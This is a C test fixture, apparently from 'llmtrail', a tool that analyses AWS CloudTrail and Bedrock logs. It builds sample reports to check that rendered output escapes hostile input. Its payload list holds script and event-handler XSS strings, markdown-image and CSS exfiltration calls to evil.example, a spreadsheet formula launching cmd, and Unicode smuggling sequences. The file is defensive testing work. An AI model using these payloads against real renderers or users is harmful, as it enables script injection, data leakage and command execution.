/*
 * report_fixture.c — see report_fixture.h. Built into each reports/ test
 * program (not into the library).
 */
#include "config.h"

#include "tests/unit/report_fixture.h"

#include <stdlib.h>

#include <stdio.h>
#include <string.h>

static const char payload_nul[] = "nul\0ctl\x01\x1b[31m";

const char *const fixture_payloads[] = {
	"<script>document.title='pwned'</script>",
	"\"><img src=x onerror=\"document.title='img'\">",
	"javascript:alert(1)",
	"</style><script>document.title='style'</script>",
	"red;}</style><style>body{background:url(https://evil.example/css)}</style>",
	"evil\xE2\x80\xAEtxt.exe\xE2\x81\xA6iso\xE2\x81\xA9",
	"![x](https://evil.example/?q=secret)",
	payload_nul,
	"bad\xff\xfe\xc0\xafutf8",
	"=cmd|' /C calc'!A0",
	"<a href=\"https://evil.example/\">click</a><iframe src=\"https://evil.example/f\"></iframe>",
	"<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/r\">",
	"<svg onload=\"document.title='svg'\"><link rel=\"stylesheet\" href=\"https://evil.example/l.css\">",
	"tag\xF3\xA0\x81\x81smuggle",
	"]]><!-- -->&amp;&#x3C;",
};
const size_t fixture_npayloads = sizeof fixture_payloads / sizeof fixture_payloads[0];

/* payload i as a slice (payload 7 holds a NUL byte). */
static rpt_str pl(size_t i)
{
	i %= fixture_npayloads;
	if (i == 7)
		return rpt_sn(payload_nul, sizeof payload_nul - 1);
	return rpt_s(fixture_payloads[i]);
}

static const char *plc(size_t i)
{
	return fixture_payloads[i % fixture_npayloads];
}

/* Function calls, unlike k++ in an argument list, are sequenced. */
static const char *next_c(bool hostile, size_t *k, const char *plain)
{
	return hostile ? plc((*k)++) : plain;
}

static rpt_str next_s(bool hostile, size_t *k, const char *plain)
{
	return hostile ? pl((*k)++) : rpt_s(plain);
}

#define CHECK(x)                                                                                   \
	do {                                                                                       \
		if ((x) != LT_OK)                                                                  \
			goto fail;                                                                 \
	} while (0)

static report *build(bool hostile)
{
	rpt_options o;
	rpt_options_default(&o);
	report *r = report_new(&o);
	if (r == NULL)
		return NULL;
	lt_error err;
	size_t k = 0;
#define S(plain) next_c(hostile, &k, (plain))
#define SS(plain) next_s(hostile, &k, (plain))
	CHECK(report_set_run(r, "0.1.0", S("llmtrail analyze evidence.tar.gz"), FIXTURE_RUN_US,
	                     S("case.sqlite"), &err));
	CHECK(report_add_pack(r, "core", S("rules/core"), "ab12cd34", &err));
	CHECK(report_add_pack(r, S("extra"), S("rules/extra"), "ef56", &err));
	const char *tags[] = {"attack.t1552", hostile ? plc(k++) : "attack.credential_access"};
	rpt_rule_in ri;
	memset(&ri, 0, sizeof ri);
	ri.pack = "core";
	ri.id = "aws-key-in-prompt";
	ri.title = S("AWS access key in a prompt");
	ri.description = S("A prompt sent to a model contains an AWS access key.\nRotate it.");
	ri.status = "stable";
	ri.file = S("rules/core/aws_key.yml");
	ri.tags = tags;
	ri.ntags = 2;
	ri.level = RPT_LEVEL_HIGH;
	size_t r_key, r_denied, r_info;
	CHECK(report_add_rule(r, &ri, &r_key, &err));
	memset(&ri, 0, sizeof ri);
	ri.pack = "core";
	ri.id = "bedrock-access-denied";
	ri.title = S("Repeated AccessDenied on Bedrock");
	ri.level = RPT_LEVEL_CRITICAL;
	CHECK(report_add_rule(r, &ri, &r_denied, &err));
	ri.id = "model-listing";
	ri.title = S("Model listing");
	ri.level = RPT_LEVEL_LOW;
	CHECK(report_add_rule(r, &ri, &r_info, &err));
	ri.id = "quiet-rule";
	ri.title = "Passes";
	ri.level = RPT_LEVEL_MEDIUM;
	CHECK(report_add_rule(r, &ri, NULL, &err));
	ri.pack = hostile ? plc(k++) : "extra";
	ri.id = "kb-only";
	ri.title = "Knowledge base data events";
	ri.outcome = RPT_NOT_APPLICABLE;
	ri.reason = S("no knowledge-base data events in the case");
	CHECK(report_add_rule(r, &ri, NULL, &err));
	ri.id = "uses-fieldref";
	ri.outcome = RPT_UNSUPPORTED;
	ri.reason = S("modifier 'fieldref|base64' is not supported");
	CHECK(report_add_rule(r, &ri, NULL, &err));
	ri.id = "broken";
	ri.outcome = RPT_FAILED;
	ri.file = S("rules/extra/broken.yml");
	ri.line = 7;
	ri.reason = S("condition references unknown selection 'sel2'");
	CHECK(report_add_rule(r, &ri, NULL, &err));

	rpt_evidence_in ev;
	memset(&ev, 0, sizeof ev);
	ev.path = S("evidence.tar.gz");
	ev.size = 123456;
	ev.sha256 = "0f343b0931126a20f133d67c2b018a3b5ab0b9d5e2e3b6a4dd8e8f44a1b2c3d4";
	ev.format = "tar+gzip";
	CHECK(report_add_evidence(r, &ev, &err));
	ev.member = S("AWSLogs/111122223333/CloudTrail/us-east-1/2024/05/01/x.json.gz");
	ev.size = 2048;
	ev.sha256 = "a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90";
	ev.sha256_decompressed = "ffeeddccbbaa99887766554433221100ffeeddccbbaa99887766554433221100";
	ev.format = "cloudtrail";
	ev.events = 1200;
	ev.duplicates = 3;
	ev.problems = 1;
	const char *member1 = ev.member;
	CHECK(report_add_evidence(r, &ev, &err));
	CHECK(report_add_problem(r, ev.path, member1, 42, RPT_SEV_WARNING,
	                         S("unterminated string at byte 17"), &err));

	rpt_event_in e;
	rpt_event_init(&e);
	e.source = rpt_s("cloudtrail");
	e.evidence = rpt_s(ev.path);
	e.member = rpt_s(member1);
	e.member_sha256 = rpt_s(ev.sha256);
	for (int i = 0; i < 30; i++) {
		e.time_us = FIXTURE_RUN_US - 6 * 3600LL * 1000000 + i * 600LL * 1000000;
		e.source = rpt_s(i % 3 ? "cloudtrail" : "invocation");
		e.principal = i % 2 ? rpt_s("arn:aws:iam::111122223333:user/alice") : SS("arn:aws:iam::111122223333:user/bob");
		e.source_ip = i % 4 ? rpt_s("198.51.100.7") : SS("203.0.113.9");
		CHECK(report_note_event(r, &e, &err));
	}

	char uid[64];
	const char *prompt_plain = "please deploy with key AKIAIOSFODNN7EXAMPLE and secret";
	for (int i = 0; i < 3; i++) {
		rpt_event_init(&e);
		snprintf(uid, sizeof uid, "req-%d", i);
		e.time_us = FIXTURE_RUN_US - 3 * 3600LL * 1000000 + i * 60LL * 1000000;
		e.source = rpt_s("invocation");
		e.uid = rpt_s(uid);
		e.action = SS("InvokeModel");
		e.principal = SS("arn:aws:iam::111122223333:user/bob");
		e.source_ip = SS("203.0.113.9");
		e.evidence = rpt_s(ev.path);
		e.member = SS("AWSLogs/111122223333/BedrockModelInvocationLogs/x.json.gz");
		e.line = (uint64_t)(10 + i);
		e.member_sha256 = rpt_s(ev.sha256);
		rpt_pair g[1] = {{rpt_s("principal"), e.principal}};
		rpt_str v = hostile ? pl(k++) : rpt_s(prompt_plain);
		char buf[512];
		size_t start = 23, end = 43;
		if (hostile) {
			/* payload + the key + payload, so that the match sits between payloads */
			rpt_str tail = pl(k++);
			size_t n = (size_t)snprintf(buf, sizeof buf, "%.*sAKIAIOSFODNN7EXAMPLE", (int)v.n, v.p);
			start = v.n;
			end = start + 20;
			if (n + tail.n < sizeof buf) {
				memcpy(buf + n, tail.p, tail.n);
				n += tail.n;
			}
			v = rpt_sn(buf, n);
		}
		rpt_match_in m = {rpt_s("prompt"), v, start, end, true};
		CHECK(report_add_hit(r, r_key, g, 1, &e, &m, 1, &err));
		rpt_match_in m2 = {SS("errorCode"), SS("AccessDenied"), 0, 6, false};
		m2.end = m2.value.n < 6 ? m2.value.n : 6;
		rpt_pair g2[2] = {{rpt_s("principal"), e.principal}, {rpt_s("source_ip"), e.source_ip}};
		CHECK(report_add_hit(r, r_denied, g2, 2, &e, &m2, 1, &err));
	}
	rpt_event_init(&e);
	e.time_us = FIXTURE_RUN_US - 1800LL * 1000000;
	e.source = rpt_s("cloudtrail");
	e.uid = SS("evt-77");
	e.action = rpt_s("ListFoundationModels");
	e.evidence = rpt_s(ev.path);
	e.line = 5;
	CHECK(report_add_hit(r, r_info, NULL, 0, &e, NULL, 0, &err));

	const char *x[] = {"2024-04-29", "2024-04-30", S("2024-05-01")};
	size_t chart;
	CHECK(report_add_chart(r, S("Invocations per day"), RPT_CHART_BAR, "calls", 3, x, &chart, &err));
	double v1[] = {12, 30, 7}, v2[] = {2, 0, 1.5};
	CHECK(report_chart_add_series(r, chart, "anthropic.claude-3", v1, &err));
	CHECK(report_chart_add_series(r, chart, S("amazon.titan"), v2, &err));
	CHECK(report_add_chart(r, "Latency p50", RPT_CHART_LINE, "ms", 3, x, &chart, &err));
	double v3[] = {820, 910.25, 640};
	CHECK(report_chart_add_series(r, chart, "p50", v3, &err));
	const char *cols[] = {"Model", S("Input tokens"), "Output tokens"};
	size_t table;
	CHECK(report_add_table(r, "Tokens by model", 3, cols, &table, &err));
	rpt_str row1[] = {SS("anthropic.claude-3-sonnet"), rpt_s("120000"), rpt_s("8000")};
	CHECK(report_table_add_row(r, table, row1, &err));
	rpt_str row2[] = {rpt_s("amazon.titan-text"), rpt_s("400"), rpt_s("90")};
	CHECK(report_table_add_row(r, table, row2, &err));
	CHECK(report_add_integrity(r, S("digest 2024-05-01T12"), "signature", RPT_CHECK_VALID, "RSA ok", &err));
	CHECK(report_add_integrity(r, "x.json.gz", "hash", RPT_CHECK_INVALID, S("hash differs from digest"), &err));
	CHECK(report_add_integrity(r, "y.json.gz", "hash", RPT_CHECK_UNVERIFIABLE, "no digest covers it", &err));
#undef S
#undef SS
	return r;
fail:
	report_free(r);
	return NULL;
}

report *fixture_plain(void)
{
	return build(false);
}

report *fixture_hostile(void)
{
	return build(true);
}

report *fixture_many(size_t n, size_t nrules)
{
	report *r = report_new(NULL);
	if (r == NULL || nrules == 0)
		return r;
	lt_error err;
	CHECK(report_set_run(r, "0.1.0", "llmtrail scan", FIXTURE_RUN_US, "big.sqlite", &err));
	char id[32], who[64], uid[32];
	for (size_t i = 0; i < nrules; i++) {
		rpt_rule_in ri;
		memset(&ri, 0, sizeof ri);
		snprintf(id, sizeof id, "rule-%04zu", i);
		ri.pack = "bulk";
		ri.id = id;
		ri.title = "Bulk rule";
		ri.level = (rpt_level)(i % RPT_NLEVELS);
		CHECK(report_add_rule(r, &ri, NULL, &err));
	}
	for (size_t i = 0; i < n; i++) {
		rpt_event_in e;
		rpt_event_init(&e);
		snprintf(who, sizeof who, "arn:aws:iam::1:user/u%zu", i);
		snprintf(uid, sizeof uid, "e%zu", i);
		e.time_us = FIXTURE_RUN_US + (int64_t)i * 1000000;
		e.source = rpt_s("cloudtrail");
		e.uid = rpt_s(uid);
		e.principal = rpt_s(who);
		e.evidence = rpt_s("big.json");
		e.line = i + 1;
		rpt_pair g = {rpt_s("principal"), e.principal};
		rpt_match_in m = {rpt_s("userIdentity.arn"), e.principal, 0, 7, false};
		CHECK(report_note_event(r, &e, &err));
		CHECK(report_add_hit(r, i % nrules, &g, 1, &e, &m, 1, &err));
	}
	return r;
fail:
	report_free(r);
	return NULL;
}

char *fixture_render(fixture_writer fn, const report *r, lt_status *status)
{
	char *out = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&out, &len);
	if (f == NULL)
		return NULL;
	lt_error err;
	lt_error_clear(&err);
	*status = fn(r, f, &err);
	if (fclose(f) != 0 || *status != LT_OK) {
		free(out);
		return NULL;
	}
	return out;
}

size_t fixture_count(const char *hay, const char *needle)
{
	size_t n = 0, nl = strlen(needle);
	for (const char *p = strstr(hay, needle); p != NULL; p = strstr(p + nl, needle))
		n++;
	return n;
}

/* xorshift32: deterministic on every platform. */
static uint32_t rnd(uint32_t *s)
{
	*s ^= *s << 13;
	*s ^= *s >> 17;
	*s ^= *s << 5;
	return *s;
}

/* A random string in buf (NUL-terminated for C-string fields; may hold NULs
 * as a slice). Biased toward markup and escape characters. */
static rpt_str rnd_str(uint32_t *s, char *buf, size_t cap)
{
	static const char special[] = "<>&\"'`[]()!:/=+-@|\\*_#\n\r\t\0\x1b\xe2\x80\xae\xff\xc0";
	size_t n = rnd(s) % 81;
	if (n >= cap)
		n = cap - 1;
	for (size_t i = 0; i < n; i++) {
		uint32_t v = rnd(s);
		buf[i] = (char)(v % 3 == 0 ? special[(v >> 8) % (sizeof special - 1)] : (char)(v >> 16));
	}
	buf[n] = '\0';
	return rpt_sn(buf, n);
}

report *fixture_random(uint32_t seed)
{
	uint32_t s = seed ? seed : 1;
	rpt_options o;
	rpt_options_default(&o);
	o.fail_on = RPT_LEVEL_LOW;
	report *r = report_new(&o);
	if (r == NULL)
		return NULL;
	char a[96], b[96], c[96], d[96];
	lt_error err;
	rnd_str(&s, a, sizeof a);
	rnd_str(&s, b, sizeof b);
	CHECK(report_set_run(r, a, b, FIXTURE_RUN_US, rnd_str(&s, c, sizeof c).p, &err));
	for (int i = 0; i < 12; i++) {
		rpt_rule_in ri;
		memset(&ri, 0, sizeof ri);
		char id[32];
		snprintf(id, sizeof id, "r%d", i);
		ri.pack = i % 2 ? rnd_str(&s, a, sizeof a).p : "p";
		if (ri.pack[0] == '\0')
			ri.pack = "p";
		ri.id = id;
		ri.title = rnd_str(&s, b, sizeof b).p;
		ri.description = rnd_str(&s, c, sizeof c).p;
		const char *tags[1] = {rnd_str(&s, d, sizeof d).p};
		ri.tags = tags;
		ri.ntags = 1;
		ri.level = (rpt_level)(rnd(&s) % RPT_NLEVELS);
		ri.outcome = (rpt_outcome)(i % 5 == 1 ? RPT_PASSED : rnd(&s) % 5);
		ri.reason = rnd_str(&s, d, sizeof d).p;
		CHECK(report_add_rule(r, &ri, NULL, &err));
	}
	for (int i = 0; i < 4; i++) {
		rpt_evidence_in ev;
		memset(&ev, 0, sizeof ev);
		ev.path = rnd_str(&s, a, sizeof a).p;
		ev.member = rnd_str(&s, b, sizeof b).p;
		ev.sha256 = rnd_str(&s, c, sizeof c).p;
		ev.format = rnd_str(&s, d, sizeof d).p;
		ev.problems = rnd(&s) % 2;
		CHECK(report_add_evidence(r, &ev, &err));
		CHECK(report_add_problem(r, ev.path, ev.member, rnd(&s) % 100, RPT_SEV_ERROR,
		                         rnd_str(&s, c, sizeof c).p, &err));
		CHECK(report_add_integrity(r, ev.path, rnd_str(&s, c, sizeof c).p,
		                           (rpt_check)(rnd(&s) % 3), rnd_str(&s, d, sizeof d).p, &err));
	}
	for (int i = 0; i < 60; i++) {
		char e1[96], e2[96], e3[96], e4[96], e5[96], v[96], f[96];
		rpt_event_in e;
		rpt_event_init(&e);
		e.time_us = FIXTURE_RUN_US + (int64_t)(rnd(&s) % 86400) * 1000000;
		e.source = i % 4 ? rpt_s("cloudtrail") : rnd_str(&s, e1, sizeof e1);
		e.uid = rnd_str(&s, e2, sizeof e2);
		e.principal = rnd_str(&s, e3, sizeof e3);
		e.source_ip = rnd_str(&s, e4, sizeof e4);
		e.action = e.evidence = e.member = rnd_str(&s, e5, sizeof e5);
		CHECK(report_note_event(r, &e, &err));
		rpt_str val = rnd_str(&s, v, sizeof v);
		size_t st = val.n ? rnd(&s) % val.n : 0;
		size_t en = st + (val.n - st ? rnd(&s) % (val.n - st + 1) : 0);
		rpt_match_in m = {rnd_str(&s, f, sizeof f), val, st, en, rnd(&s) % 2 == 0};
		rpt_pair g = {rpt_s("principal"), e.principal};
		CHECK(report_add_hit(r, rnd(&s) % 12, &g, 1, &e, &m, 1, &err));
	}
	const char *x[] = {a, b};
	rnd_str(&s, a, sizeof a);
	rnd_str(&s, b, sizeof b);
	size_t ch;
	CHECK(report_add_chart(r, rnd_str(&s, c, sizeof c).p, RPT_CHART_BAR, "u", 2, x, &ch, &err));
	double vals[2] = {(double)(rnd(&s) % 1000), -(double)(rnd(&s) % 50)};
	CHECK(report_chart_add_series(r, ch, rnd_str(&s, d, sizeof d).p, vals, &err));
	return r;
fail:
	report_free(r);
	return NULL;
}
